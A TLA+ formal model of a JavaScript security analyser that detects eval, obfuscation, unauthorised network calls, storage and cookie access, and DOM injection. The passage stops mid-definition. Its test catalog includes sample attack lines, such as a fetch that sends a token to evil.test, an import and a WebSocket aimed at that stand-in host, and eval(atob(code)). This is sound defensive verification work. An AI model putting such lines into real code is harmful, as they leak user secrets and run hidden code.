---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* A model of @xrift/code-security: the signal detector                    *)
(* (analyzeCodeSecurity), the risk scorer (calculateSecurityScore), the    *)
(* verdict mapper (getSecurityVerdict), the context classifier and         *)
(* severity adjuster (determineFileContext, adjustViolationSeverity) and   *)
(* the service wrapper (CodeSecurityService.validate).                     *)
(*                                                                         *)
(* A JavaScript string is a sequence of characters; a character is a       *)
(* one-character TLA+ string (Str converts), and a code point outside      *)
(* ASCII is written as a longer token.  null is the value Null.  Numbers   *)
(* of type float (entropies) are fixed-point integers in units of          *)
(* 1/EntropyScale bit.                                                     *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(***************************************************************************)
(* Strings                                                                 *)
(***************************************************************************)
Str(s) == [i \in 1..Len(s) |-> SubSeq(s, i, i)]

Null == <<"<null>">>

EmptyString == <<>>

OrEmpty(s) == IF s = Null THEN EmptyString ELSE s

StartsWith(s, p) == Len(p) <= Len(s) /\ SubSeq(s, 1, Len(p)) = p

EndsWith(s, p) == Len(p) <= Len(s) /\ SubSeq(s, Len(s) - Len(p) + 1, Len(s)) = p

Includes(s, p) ==
  \/ p = <<>>
  \/ \E i \in 1..(Len(s) - Len(p) + 1) : s[i] = p[1] /\ SubSeq(s, i, i + Len(p) - 1) = p

IndexOfAny(s, cs) ==
  IF \E i \in 1..Len(s) : s[i] \in cs
  THEN CHOOSE i \in 1..Len(s) : s[i] \in cs /\ \A j \in 1..(i - 1) : s[j] \notin cs
  ELSE 0

LastIndexOf(s, c) ==
  IF \E i \in 1..Len(s) : s[i] = c
  THEN CHOOSE i \in 1..Len(s) : s[i] = c /\ \A j \in (i + 1)..Len(s) : s[j] # c
  ELSE 0

UpperChars == Str("ABCDEFGHIJKLMNOPQRSTUVWXYZ")

LowerChars == Str("abcdefghijklmnopqrstuvwxyz")

DigitChars == Str("0123456789")

Range(s) == {s[i] : i \in 1..Len(s)}

LowerChar(c) ==
  IF c \in Range(UpperChars)
  THEN LowerChars[CHOOSE i \in 1..26 : UpperChars[i] = c]
  ELSE c

ToLowerCase(s) == [i \in 1..Len(s) |-> LowerChar(s[i])]

HexChars == Range(DigitChars) \cup Range(Str("abcdefABCDEF"))

WordChars == Range(UpperChars) \cup Range(LowerChars) \cup Range(DigitChars) \cup {"_", "$"}

(* /\\x[0-9a-fA-F]{2}/ *)
HasHexEscape(s) ==
  \E i \in 1..(Len(s) - 3) :
    s[i] = "\\" /\ s[i + 1] = "x" /\ s[i + 2] \in HexChars /\ s[i + 3] \in HexChars

(* /\\u[0-9a-fA-F]{4}/ *)
HasUnicodeEscape(s) ==
  \E i \in 1..(Len(s) - 5) :
    s[i] = "\\" /\ s[i + 1] = "u" /\ \A k \in 2..5 : s[i + k] \in HexChars

(* /^[_$][a-zA-Z0-9_$]{4,}$/ *)
SuspiciousNamePattern(s) ==
  Len(s) >= 5 /\ s[1] \in {"_", "$"} /\ \A i \in 2..Len(s) : s[i] \in WordChars

(***************************************************************************)
(* Fixed-point arithmetic for Math.log2                                    *)
(***************************************************************************)
EntropyScale == 1024

FractionBits == 10

MantissaOne == 16384

RECURSIVE FloorLog2(_)
FloorLog2(k) == IF k < 2 THEN 0 ELSE 1 + FloorLog2(k \div 2)

RECURSIVE Pow2(_)
Pow2(e) == IF e = 0 THEN 1 ELSE 2 * Pow2(e - 1)

RECURSIVE Log2Fraction(_, _)
Log2Fraction(m, bits) ==
  IF bits = 0 THEN 0
  ELSE LET sq == (m * m) \div MantissaOne
       IN IF sq >= 2 * MantissaOne
          THEN Pow2(bits - 1) + Log2Fraction(sq \div 2, bits - 1)
          ELSE Log2Fraction(sq, bits - 1)

(* log2(k) for an integer k >= 1, in units of 1/EntropyScale *)
Log2(k) ==
  LET e == FloorLog2(k)
  IN e * EntropyScale + Log2Fraction((k * MantissaOne) \div Pow2(e), FractionBits)

RECURSIVE SumRange(_, _, _)
SumRange(f, lo, hi) ==
  IF lo > hi THEN 0
  ELSE IF lo = hi THEN f[lo]
  ELSE LET mid == (lo + hi) \div 2
       IN SumRange(f, lo, mid) + SumRange(f, mid + 1, hi)

SumSeq(s) == SumRange(s, 1, Len(s))

(***************************************************************************)
(* utils/helpers                                                           *)
(***************************************************************************)
calculateEntropy(str) ==
  IF Len(str) = 0 THEN 0
  ELSE LET frequency == [c \in Range(str) |-> Cardinality({i \in 1..Len(str) : str[i] = c})]
           (* the sum of -p * log2(p) over the characters, p = frequency[c] / str.length: *)
           (* each occurrence of c contributes (log2(length) - log2(frequency[c])) / length *)
           log2Length == Log2(Len(str))
           term == [i \in 1..Len(str) |-> log2Length - Log2(frequency[str[i]])]
       IN SumSeq(term) \div Len(str)

calculateAverageEntropy(strings) ==
  IF Len(strings) = 0 THEN 0
  ELSE LET long == SelectSeq(strings, LAMBDA s : Len(s) > 20)
           entropies == [i \in 1..Len(long) |-> calculateEntropy(long[i])]
       IN IF Len(entropies) > 0 THEN SumSeq(entropies) \div Len(entropies) ELSE 0

SpecialSchemes == {Str("http"), Str("https"), Str("ws"), Str("wss"), Str("ftp")}

(* new URL(url).hostname; Null when the constructor throws *)
URLHostname(url) ==
  LET colon == IndexOfAny(url, {":"})
      scheme == ToLowerCase(SubSeq(url, 1, colon - 1))
      rest == SubSeq(url, colon + 1, Len(url))
      slashes == IF StartsWith(rest, Str("//")) THEN 2 ELSE 0
      afterSlashes == SubSeq(rest, slashes + 1, Len(rest))
      stop == IndexOfAny(afterSlashes, {"/", "?", "#"})
      authority == IF stop = 0 THEN afterSlashes ELSE SubSeq(afterSlashes, 1, stop - 1)
      at == LastIndexOf(authority, "@")
      hostport == SubSeq(authority, at + 1, Len(authority))
      portAt == IndexOfAny(hostport, {":"})
      host == IF portAt = 0 THEN hostport ELSE SubSeq(hostport, 1, portAt - 1)
  IN IF colon <= 1 THEN Null
     ELSE IF scheme[1] \notin Range(LowerChars) THEN Null
     ELSE IF \E i \in 1..Len(scheme) :
               scheme[i] \notin (Range(LowerChars) \cup Range(DigitChars) \cup {"+", "-", "."})
          THEN Null
     ELSE IF scheme \in SpecialSchemes
          THEN IF host = EmptyString THEN Null ELSE ToLowerCase(host)
     ELSE IF slashes = 2 THEN host
     ELSE EmptyString

extractDomains(urls) ==
  LET mapped == [i \in 1..Len(urls) |-> URLHostname(urls[i])]
  IN SelectSeq(mapped, LAMBDA domain : domain # Null)

ALLOWED_PACKAGES ==
  << Str("react"), Str("react-dom"), Str("three"), Str("@react-three/fiber"),
     Str("@react-three/rapier"), Str("@react-three/drei"), Str("@xrift/world-sdk") >>

ALLOWED_DOMAINS == << Str("cdn.jsdelivr.net"), Str("unpkg.com"), Str("esm.sh") >>

(* list.slice(from, to) for 0 <= from <= to *)
Slice(list, from, to) == SubSeq(list, from + 1, IF to < Len(list) THEN to ELSE Len(list))

SeqIncludes(list, x) == \E i \in 1..Len(list) : list[i] = x

getCalleeName(callee) ==
  IF callee.type = "Identifier" THEN callee.name
  ELSE IF callee.type = "MemberExpression" /\ callee.property.type = "Identifier"
       THEN callee.property.name
  ELSE Null

(***************************************************************************)
(* Syntax trees, as the external parser returns them                       *)
(***************************************************************************)
Id(name) == [type |-> "Identifier", name |-> Str(name)]

StrLit(chars) == [type |-> "Literal", typeof |-> "string", value |-> chars]

Lit(text) == StrLit(Str(text))

Num(n) == [type |-> "Literal", typeof |-> "number", value |-> Str(ToString(n))]

Member(object, property) ==
  [type |-> "MemberExpression", object |-> object, property |-> property, computed |-> FALSE]

Call(callee, arguments) ==
  [type |-> "CallExpression", callee |-> callee, arguments |-> arguments]

New(callee, arguments) ==
  [type |-> "NewExpression", callee |-> callee, arguments |-> arguments]

Assign(left, right) == [type |-> "AssignmentExpression", left |-> left, right |-> right]

Binary(left, right) == [type |-> "BinaryExpression", left |-> left, right |-> right]

ExprStmt(expression) == [type |-> "ExpressionStatement", expression |-> expression]

Const(name, init) == [type |-> "VariableDeclaration", id |-> Id(name), init |-> init]

Import(local, source) ==
  [type |-> "ImportDeclaration", local |-> Id(local), source |-> Lit(source)]

(* a line of source text that the parser rejects *)
Unparsable(text) == [type |-> "SyntaxError", text |-> Str(text)]

NoNode == [type |-> "None"]

RECURSIVE Join(_, _)
Join(parts, sep) ==
  IF parts = <<>> THEN <<>>
  ELSE IF Len(parts) = 1 THEN parts[1]
  ELSE parts[1] \o sep \o Join(Tail(parts), sep)

RECURSIVE ConcatRange(_, _, _)
ConcatRange(seqs, lo, hi) ==
  IF lo > hi THEN <<>>
  ELSE IF lo = hi THEN seqs[lo]
  ELSE LET mid == (lo + hi) \div 2
       IN ConcatRange(seqs, lo, mid) \o ConcatRange(seqs, mid + 1, hi)

Concat(seqs) == ConcatRange(seqs, 1, Len(seqs))

(* the characters of a string literal as written in the source *)
Escape(value) ==
  Concat([i \in 1..Len(value) |->
            IF value[i] \in {"\\", "'"} THEN <<"\\", value[i]>> ELSE <<value[i]>>])

(* the source text of a node, one statement per line *)
RECURSIVE Render(_)
Render(node) ==
  CASE node.type = "Identifier" -> node.name
    [] node.type = "Literal" ->
         IF node.typeof = "string" THEN <<"'">> \o Escape(node.value) \o <<"'">>
         ELSE node.value
    [] node.type = "MemberExpression" ->
         Render(node.object) \o <<".">> \o Render(node.property)
    [] node.type = "CallExpression" ->
         Render(node.callee) \o <<"(">>
           \o Join([i \in 1..Len(node.arguments) |-> Render(node.arguments[i])], Str(", "))
           \o <<")">>
    [] node.type = "NewExpression" ->
         Str("new ") \o Render(node.callee) \o <<"(">>
           \o Join([i \in 1..Len(node.arguments) |-> Render(node.arguments[i])], Str(", "))
           \o <<")">>
    [] node.type = "AssignmentExpression" ->
         Render(node.left) \o Str(" = ") \o Render(node.right)
    [] node.type = "BinaryExpression" ->
         Render(node.left) \o Str(" + ") \o Render(node.right)
    [] node.type = "ExpressionStatement" -> Render(node.expression)
    [] node.type = "VariableDeclaration" ->
         Str("const ") \o Render(node.id) \o Str(" = ") \o Render(node.init)
    [] node.type = "ImportDeclaration" ->
         Str("import ") \o Render(node.local) \o Str(" from ") \o Render(node.source)
    [] node.type = "SyntaxError" -> node.text

Width(node) == Len(Render(node))

(* a callback invocation: the node, its parent, the child slot it fills, *)
(* and the column of node.loc.start                                      *)
Visit(node, parent, role, column) ==
  [node |-> node, parent |-> parent, role |-> role, column |-> column]

RECURSIVE ArgumentColumns(_, _, _)
ArgumentColumns(arguments, i, column) ==
  IF i > Len(arguments) THEN <<>>
  ELSE <<column>> \o ArgumentColumns(arguments, i + 1, column + Width(arguments[i]) + 2)

(* no assignment target is walked *)
IsWalkedTarget_Never(left) == FALSE

(* an assignment target is walked as a pattern: a member expression is     *)
(* walked like any expression, an identifier is a binding and has no       *)
(* Identifier callback                                                     *)
IsWalkedTarget(left) == left.type # "Identifier"

(***************************************************************************)
(* walk.ancestor: the order in which the visitor callbacks are called.     *)
(* The children of a node are walked before the callback of the node is    *)
(* called; a binding identifier (a declared name, an import specifier, an  *)
(* identifier that is an assignment target) and the property of a          *)
(* non-computed member access are not walked.  A visit records the node,   *)
(* ancestors[ancestors.length - 2] and the child slot of that parent the   *)
(* node sits in.                                                           *)
(***************************************************************************)
RECURSIVE WalkAncestor(_, _, _, _)
WalkAncestor(node, parent, role, column) ==
  LET self == <<Visit(node, parent, role, column)>>
      callArgs(from) ==
        LET cols == ArgumentColumns(node.arguments, 1, from)
        IN Concat([i \in 1..Len(node.arguments) |->
                     WalkAncestor(node.arguments[i], node, "argument", cols[i])])
  IN CASE node.type \in {"Identifier", "Literal"} -> self
       [] node.type = "MemberExpression" ->
            WalkAncestor(node.object, node, "object", column)
              \o (IF node.computed
                  THEN WalkAncestor(node.property, node, "property",
                                    column + Width(node.object) + 1)
                  ELSE <<>>)
              \o self
       [] node.type = "CallExpression" ->
            WalkAncestor(node.callee, node, "callee", column)
              \o callArgs(column + Width(node.callee) + 1) \o self
       [] node.type = "NewExpression" ->
            WalkAncestor(node.callee, node, "callee", column + 4)
              \o callArgs(column + 4 + Width(node.callee) + 1) \o self
       [] node.type = "AssignmentExpression" ->
            (IF IsWalkedTarget(node.left)
             THEN WalkAncestor(node.left, node, "left", column)
             ELSE <<>>)
              \o WalkAncestor(node.right, node, "right", column + Width(node.left) + 3)
              \o self
       [] node.type = "BinaryExpression" ->
            WalkAncestor(node.left, node, "left", column)
              \o WalkAncestor(node.right, node, "right", column + Width(node.left) + 3)
              \o self
       [] node.type = "ExpressionStatement" ->
            WalkAncestor(node.expression, node, "expression", column) \o self
       [] node.type = "VariableDeclaration" ->
            WalkAncestor(node.init, node, "init", column + 6 + Width(node.id) + 3)
              \o self
       [] node.type = "ImportDeclaration" ->
            WalkAncestor(node.source, node, "source",
                         column + 7 + Width(node.local) + 6)
              \o self

(***************************************************************************)
(* The source texts analysed: a program is a sequence of statements, one   *)
(* per line, each taken from Catalog.                                      *)
(***************************************************************************)
HighEntropyText == [i \in 1..130 |-> ToString(1000 + i)]

Catalog ==
  << Const("x", Num(1)),
     Import("React", "react"),
     Import("_", "lodash"),
     Import("m", "https://evil.test/mod.js"),
     ExprStmt(Call(Id("eval"), <<Id("code")>>)),
     ExprStmt(Call(Member(Id("window"), Id("eval")), <<Id("code")>>)),
     ExprStmt(Call(Id("run"), <<Call(Id("eval"), <<Call(Id("atob"), <<Id("code")>>)>>)>>)),
     ExprStmt(Call(Id("setTimeout"), <<Lit("alert(1)"), Num(1000)>>)),
     ExprStmt(Call(Id("setInterval"), <<Id("tick"), Num(1000)>>)),
     ExprStmt(Call(Id("fetch"), <<Lit("https://evil.test/x")>>)),
     ExprStmt(Call(Id("fetch"), <<Lit("https://cdn.jsdelivr.net/d.json")>>)),
     ExprStmt(Call(Id("fetch"), <<Lit("/api/data")>>)),
     ExprStmt(Call(Id("fetch"), <<Binary(Lit("https://evil.test/?t="), Id("token"))>>)),
     ExprStmt(Call(Id("XMLHttpRequest"), <<>>)),
     ExprStmt(Call(Id("WebSocket"), <<Id("url")>>)),
     ExprStmt(New(Id("WebSocket"), <<Lit("wss://evil.test/s")>>)),
     ExprStmt(Call(Member(Id("navigator"), Id("sendBeacon")), <<Lit("/log"), Id("data")>>)),
     ExprStmt(Call(Member(Id("el"), Id("insertAdjacentHTML")), <<Lit("beforeend"), Id("html")>>)),
     ExprStmt(Call(Member(Id("document"), Id("createElement")), <<Lit("SCRIPT")>>)),
     ExprStmt(Call(Member(Id("document"), Id("createElement")), <<Lit("div")>>)),
     ExprStmt(Call(Member(Id("String"), Id("fromCharCode")), <<Num(72)>>)),
     ExprStmt(Call(Member(Id("window"), Id("addEventListener")), <<Lit("storage"), Id("fn")>>)),
     ExprStmt(Assign(Member(Id("window"), Id("foo")), Num(1))),
     ExprStmt(Assign(Member(Id("navigator"), Id("x")), Num(1))),
     ExprStmt(Assign(Member(Member(Id("Object"), Id("prototype")), Id("polluted")), Num(1))),
     ExprStmt(Assign(Member(Id("self"), Id("onstorage")), Id("fn"))),
     ExprStmt(Assign(Member(Id("el"), Id("innerHTML")), Id("html"))),
     ExprStmt(Assign(Id("y"), Member(Id("el"), Id("innerHTML")))),
     ExprStmt(Call(Member(Id("localStorage"), Id("getItem")), <<Lit("k")>>)),
     ExprStmt(Member(Id("document"), Id("cookie"))),
     ExprStmt(Call(Member(Id("indexedDB"), Id("open")), <<Lit("db")>>)),
     ExprStmt(Member(Id("navigator"), Id("userAgent"))),
     ExprStmt(Member(Id("document"), Id("head"))),
     ExprStmt(Call(Id("log"), <<Id("navigator")>>)),
     Const("s", Lit("\\x41\\x42")),
     Const("k", StrLit(HighEntropyText)),
     ExprStmt(Call(Id("log"), <<Id("_0x1a2b3c4d5e6f")>>)),
     Unparsable("eval(") >>

StatementVisits == [k \in 1..Len(Catalog) |->
                      IF Catalog[k].type = "SyntaxError" THEN <<>>
                      ELSE WalkAncestor(Catalog[k], [type |-> "Program"], "body", 0)]

MaxStmts == 2

RECURSIVE SeqsUpTo(_, _)
SeqsUpTo(S, n) ==
  IF n = 0 THEN {<<>>}
  ELSE LET shorter == SeqsUpTo(S, n - 1)
       IN shorter \cup {Append(q, x) : q \in shorter, x \in S}

SourceTexts == SeqsUpTo(1..Len(Catalog), MaxStmts)

(* the text of the program *)
SourceText(code) == Join([i \in 1..Len(code) |-> Render(Catalog[code[i]])], <<"\n">>)

(* acorn.parse throws a SyntaxError on a text that is not a program *)
ParseThrows(code) == \E i \in 1..Len(code) : Catalog[code[i]].type = "SyntaxError"

(***************************************************************************)
(* analyzer.ts                                                             *)
(***************************************************************************)
ENTROPY_THRESHOLD == 7 * EntropyScale

NAME_ENTROPY_THRESHOLD == (7 * EntropyScale) \div 2

getLocation(line, column) == [line |-> line, column |-> column, code |-> "(code snippet)"]

(* start is <<line, column>> of the node, or <<>> when no node is passed *)
createViolation(rule, severity, message, start) ==
  IF start = <<>>
  THEN [rule |-> rule, severity |-> severity, message |-> message]
  ELSE [rule |-> rule, severity |-> severity, message |-> message,
        location |-> getLocation(start[1], start[2])]

InitialSignals ==
  [hasEval |-> FALSE,
   hasDynamicCodeExecution |-> FALSE,
   hasNetworkAPI |-> FALSE,
   hasNetworkWithoutPermission |-> FALSE,
   hasDynamicURLConstruction |-> FALSE,
   hasObfuscatedCode |-> FALSE,
   hasGlobalVariableOverride |-> FALSE,
   hasStorageAccess |-> FALSE,
   hasNavigatorAccess |-> FALSE,
   hasDangerousDOMManipulation |-> FALSE,
   entropy |-> 0,
   suspiciousVariableNames |-> FALSE,
   importedPackages |-> <<>>,
   referencedDomains |-> <<>>,
   detectedViolations |-> <<>>]

IsStringLiteral(arg) == arg.type = "Literal" /\ arg.typeof = "string"

FirstArgument(node) == IF Len(node.arguments) >= 1 THEN node.arguments[1] ELSE NoNode

When(cond, violation) == IF cond THEN <<violation>> ELSE <<>>

(* A handler maps the accumulators of one analysis,                        *)
(* [signals, urlStrings, stringLiterals, variableNames], to their values   *)
(* after the callback has run on the visited node.                         *)

(* only the direct call eval(...) *)
IsEvalCall_DirectOnly(node) ==
  node.callee.type = "Identifier" /\ node.callee.name = Str("eval")

IsEvalCall(node) == getCalleeName(node.callee) = Str("eval")

IsStringTimeout(node) ==
  /\ OrEmpty(getCalleeName(node.callee)) \in {Str("setTimeout"), Str("setInterval")}
  /\ IsStringLiteral(FirstArgument(node))

IsFetchCall(node) ==
  OrEmpty(getCalleeName(node.callee)) \in {Str("fetch"), Str("XMLHttpRequest")}

IsWebSocketCall(node) == getCalleeName(node.callee) = Str("WebSocket")

IsSendBeacon(node) ==
  /\ node.callee.type = "MemberExpression"
  /\ node.callee.object.type = "Identifier"
  /\ node.callee.object.name = Str("navigator")
  /\ node.callee.property.type = "Identifier"
  /\ node.callee.property.name = Str("sendBeacon")

IsInsertAdjacentHTML(node) ==
  OrEmpty(getCalleeName(node.callee)) \in {Str("insertAdjacentHTML")}

IsCreateDangerousElement(node) ==
  /\ getCalleeName(node.callee) = Str("createElement")
  /\ node.callee.type = "MemberExpression"
  /\ node.callee.object.type = "Identifier"
  /\ node.callee.object.name = Str("document")
  /\ IsStringLiteral(FirstArgument(node))
  /\ ToLowerCase(FirstArgument(node).value) \in {Str("script"), Str("iframe")}

IsObfuscationCall(node) ==
  OrEmpty(getCalleeName(node.callee)) \in
    {Str("atob"), Str("btoa"), Str("unescape"), Str("decodeURIComponent")}

IsFromCharCode(node) ==
  /\ node.callee.type = "MemberExpression"
  /\ node.callee.object.type = "Identifier"
  /\ node.callee.object.name = Str("String")
  /\ node.callee.property.type = "Identifier"
  /\ node.callee.property.name = Str("fromCharCode")

IsStorageListener(node) ==
  /\ node.callee.type = "MemberExpression"
  /\ node.callee.property.type = "Identifier"
  /\ node.callee.property.name = Str("addEventListener")
  /\ IsStringLiteral(FirstArgument(node))
  /\ FirstArgument(node).value = Str("storage")

CallExpression(scope, node, start) ==
  LET calleeName == getCalleeName(node.callee)
      urlArg == FirstArgument(node)
      signals0 == scope.signals
  IN [scope EXCEPT
        !.signals =
          [signals0 EXCEPT
             !.hasEval = @ \/ IsEvalCall(node),
             !.hasDynamicCodeExecution = @ \/ IsStringTimeout(node),
             !.hasNetworkAPI =
                @ \/ IsFetchCall(node) \/ IsWebSocketCall(node) \/ IsSendBeacon(node),
             !.hasDynamicURLConstruction =
                @ \/ (IsFetchCall(node) /\ ~IsStringLiteral(urlArg)),
             !.hasNavigatorAccess = @ \/ IsSendBeacon(node),
             !.hasDangerousDOMManipulation =
                @ \/ IsInsertAdjacentHTML(node) \/ IsCreateDangerousElement(node),
             !.hasObfuscatedCode = @ \/ IsObfuscationCall(node) \/ IsFromCharCode(node),
             !.hasStorageAccess = @ \/ IsStorageListener(node),
             !.detectedViolations = @
                \o When(IsEvalCall(node),
                        createViolation("no-eval", "critical",
                                        <<"eval() is prohibited">>, start))
                \o When(IsStringTimeout(node),
                        createViolation("no-string-timeout", "critical",
                                        <<calleeName, "must not be given a string">>, start))
                \o When(IsSendBeacon(node),
                        createViolation("no-navigator-access", "critical",
                                        <<"navigator.sendBeacon() is prohibited">>, start))
                \o When(IsInsertAdjacentHTML(node),
                        createViolation("no-dangerous-dom", "critical",
                                        <<calleeName, "() is prohibited (XSS risk)">>, start))
                \o When(IsCreateDangerousElement(node),
                        createViolation("no-dangerous-dom", "critical",
                                        <<"document.createElement is prohibited for",
                                          ToLowerCase(urlArg.value)>>, start))
                \o When(IsObfuscationCall(node),
                        createViolation("no-obfuscation", "critical",
                                        <<"obfuscation function is prohibited", calleeName>>,
                                        start))
                \o When(IsFromCharCode(node),
                        createViolation("no-obfuscation", "critical",
                                        <<"String.fromCharCode() is prohibited">>, start))
                \o When(IsStorageListener(node),
                        createViolation("no-storage-event", "critical",
                                        <<"addEventListener('storage', ...) is prohibited">>,
                                        start))],
        !.urlStrings = @
           \o (IF IsFetchCall(node) /\ IsStringLiteral(urlArg) THEN <<urlArg.value>> ELSE <<>>)
           \o (IF IsWebSocketCall(node) /\ IsStringLiteral(urlArg)
               THEN <<urlArg.value>> ELSE <<>>)]

IsGlobalOverride(left) ==
  /\ left.type = "MemberExpression"
  /\ left.object.type = "Identifier"
  /\ left.object.name \in {Str("window"), Str("globalThis"), Str("document"), Str("navigator")}

IsPrototypePollution(left) ==
  /\ left.type = "MemberExpression"
  /\ left.object.type = "MemberExpression"
  /\ left.object.property.type = "Identifier"
  /\ left.object.property.name = Str("prototype")

IsOnStorageAssignment(left) ==
  /\ left.type = "MemberExpression"
  /\ left.property.type = "Identifier"
  /\ left.property.name = Str("onstorage")

AssignmentExpression(scope, node, start) ==
  LET left == node.left
      signals0 == scope.signals
  IN [scope EXCEPT
        !.signals =
          [signals0 EXCEPT
             !.hasGlobalVariableOverride =
                @ \/ IsGlobalOverride(left) \/ IsPrototypePollution(left),
             !.hasNavigatorAccess =
                @ \/ (IsGlobalOverride(left) /\ left.object.name = Str("navigator")),
             !.hasStorageAccess = @ \/ IsOnStorageAssignment(left),
             !.detectedViolations = @
                \o When(IsGlobalOverride(left),
                        createViolation("no-global-override", "critical",
                                        <<"tampering with a global object is prohibited",
                                          left.object.name>>, start))
                \o When(IsPrototypePollution(left),
                        createViolation("no-prototype-pollution", "critical",
                                        <<"prototype pollution is prohibited">>, start))
                \o When(IsOnStorageAssignment(left),
                        createViolation("no-storage-event", "critical",
                                        <<"assignment to onstorage is prohibited">>, start))]]

ObjectName(node) == IF node.object.type = "Identifier" THEN node.object.name ELSE Null

PropertyName(node) == IF node.property.type = "Identifier" THEN node.property.name ELSE Null

IsStorageObject(node) ==
  OrEmpty(ObjectName(node)) \in {Str("localStorage"), Str("sessionStorage")}

IsCookieAccess(node) ==
  ObjectName(node) = Str("document") /\ PropertyName(node) = Str("cookie")

IsIndexedDBAccess(node) == ObjectName(node) = Str("indexedDB")

IsNavigatorMember(node) == ObjectName(node) = Str("navigator")

(* parent is ancestors[ancestors.length - 2]; role = "left" iff parent.left === node *)
IsHTMLAssignmentTarget(node, parent, role) ==
  /\ OrEmpty(PropertyName(node)) \in {Str("innerHTML"), Str("outerHTML")}
  /\ parent.type = "AssignmentExpression"
  /\ role = "left"

IsDocumentHead(node) ==
  ObjectName(node) = Str("document") /\ PropertyName(node) = Str("head")

MemberExpression(scope, node, parent, role, start) ==
  LET objectName == ObjectName(node)
      propertyName == PropertyName(node)
      signals0 == scope.signals
  IN [scope EXCEPT
        !.signals =
          [signals0 EXCEPT
             !.hasStorageAccess =
                @ \/ IsStorageObject(node) \/ IsCookieAccess(node) \/ IsIndexedDBAccess(node),
             !.hasNavigatorAccess = @ \/ IsNavigatorMember(node),
             !.hasDangerousDOMManipulation =
                @ \/ IsHTMLAssignmentTarget(node, parent, role) \/ IsDocumentHead(node),
             !.detectedViolations = @
                \o When(IsStorageObject(node),
                        createViolation("no-storage-access", "critical",
                                        <<"access is prohibited to", objectName>>, start))
                \o When(IsCookieAccess(node),
                        createViolation("no-cookie-access", "critical",
                                        <<"access to cookies is prohibited">>, start))
                \o When(IsIndexedDBAccess(node),
                        createViolation("no-indexeddb-access", "critical",
                                        <<"access to IndexedDB is prohibited">>, start))
                \o When(IsNavigatorMember(node),
                        createViolation("no-navigator-access", "critical",
                                        <<"access is prohibited to navigator.",
                                          IF propertyName = Null THEN Str("*")
                                          ELSE propertyName>>, start))
                \o When(IsHTMLAssignmentTarget(node, parent, role),
                        createViolation("no-dangerous-dom", "critical",
                                        <<"assignment is prohibited to", propertyName>>,
                                        start))
                \o When(IsDocumentHead(node),
                        createViolation("no-dangerous-dom", "critical",
                                        <<"access to document.head is prohibited">>, start))]]

IsExternalImport(source) ==
  StartsWith(source, Str("http://")) \/ StartsWith(source, Str("https://"))

(* a source already recorded is not recorded again *)
ImportDeclaration_NoDuplicates(scope, node, start) ==
  LET source == node.source.value
      signals0 == scope.signals
  IN [scope EXCEPT
        !.signals =
          [signals0 EXCEPT
             !.importedPackages = IF SeqIncludes(@, source) THEN @ ELSE Append(@, source),
             !.detectedViolations = @
                \o When(IsExternalImport(source),
                        createViolation("no-external-import", "critical",
                                        <<"import from an external URL is prohibited">>,
                                        start))]]

ImportDeclaration(scope, node, start) ==
  LET source == node.source.value
      signals0 == scope.signals
  IN [scope EXCEPT
        !.signals =
          [signals0 EXCEPT
             !.importedPackages = Append(@, source),
             !.detectedViolations = @
                \o When(IsExternalImport(source),
                        createViolation("no-external-import", "critical",
                                        <<"import from an external URL is prohibited">>,
                                        start))]]

(* role = "object" iff parent.object === node *)
IsBareNavigator(node, parent, role) ==
  /\ node.name = Str("navigator")
  /\ (parent.type # "MemberExpression" \/ role # "object")

Identifier(scope, node, parent, role, start) ==
  LET signals0 == scope.signals
  IN [scope EXCEPT
        !.variableNames = Append(@, node.name),
        !.signals =
          [signals0 EXCEPT
             !.hasNavigatorAccess = @ \/ IsBareNavigator(node, parent, role),
             !.detectedViolations = @
                \o When(IsBareNavigator(node, parent, role),
                        createViolation("no-navigator-access", "critical",
                                        <<"access to the navigator object is prohibited">>,
                                        start))]]

IsEscapeObfuscation(value) == HasHexEscape(value) \/ HasUnicodeEscape(value)

Literal(scope, node, start) ==
  IF node.typeof # "string" THEN scope
  ELSE LET value == node.value
           signals0 == scope.signals
       IN [scope EXCEPT
             !.stringLiterals = Append(@, value),
             !.signals =
               [signals0 EXCEPT
                  !.hasObfuscatedCode = @ \/ IsEscapeObfuscation(value),
                  !.detectedViolations = @
                     \o When(IsEscapeObfuscation(value),
                             createViolation("no-obfuscation", "critical",
                                             <<"hex/Unicode escape obfuscation is prohibited">>,
                                             start))]]

(* entropy.toFixed(2), in hundredths *)
ToFixed2(e) == (e * 100 + EntropyScale \div 2) \div EntropyScale

IsSuspiciousName(name) ==
  SuspiciousNamePattern(name) /\ calculateEntropy(name) > NAME_ENTROPY_THRESHOLD

HasUnauthorizedDomain(referencedDomains, allowedDomains) ==
  \E i \in 1..Len(referencedDomains) :
    /\ ~SeqIncludes(allowedDomains, referencedDomains[i])
    /\ ~SeqIncludes(ALLOWED_DOMAINS, referencedDomains[i])

(* undefined, and an object without the fields read *)
Undefined == <<>>

(* permissions?.network?.allowedDomains || [] *)
AllowedDomainsOf(permissions) ==
  IF "network" \in DOMAIN permissions THEN permissions.network.allowedDomains ELSE <<>>

(* only an unauthorized domain counts *)
NeedsNetworkPermission_DomainsOnly(sig, permissions) ==
  /\ sig.hasNetworkAPI
  /\ HasUnauthorizedDomain(sig.referencedDomains, AllowedDomainsOf(permissions))

(* a dynamic URL counts only when no literal URL names a domain *)
NeedsNetworkPermission_LiteralsDecide(sig, permissions) ==
  /\ sig.hasNetworkAPI
  /\ (HasUnauthorizedDomain(sig.referencedDomains, AllowedDomainsOf(permissions))
        \/ (sig.hasDynamicURLConstruction /\ sig.referencedDomains = <<>>))

NeedsNetworkPermission(sig, permissions) ==
  /\ sig.hasNetworkAPI
  /\ (HasUnauthorizedDomain(sig.referencedDomains, AllowedDomainsOf(permissions))
        \/ sig.hasDynamicURLConstruction)

(* the part of analyzeCodeSecurity after the traversal *)
PostPass(scope, permissions) ==
  LET entropy == calculateAverageEntropy(scope.stringLiterals)
      highEntropy == entropy > ENTROPY_THRESHOLD
      suspiciousVars == SelectSeq(scope.variableNames, IsSuspiciousName)
      suspicious == Len(suspiciousVars) > 0
      referencedDomains == extractDomains(scope.urlStrings)
      signals0 == scope.signals
      signals1 ==
        [signals0 EXCEPT
           !.entropy = entropy,
           !.hasObfuscatedCode = @ \/ highEntropy \/ suspicious,
           !.suspiciousVariableNames = @ \/ suspicious,
           !.referencedDomains = referencedDomains,
           !.detectedViolations = @
              \o When(highEntropy,
                      createViolation("no-obfuscation", "critical",
                                      <<"string entropy is abnormally high", ToFixed2(entropy)>>,
                                      <<>>))
              \o When(suspicious,
                      createViolation("no-obfuscation", "critical",
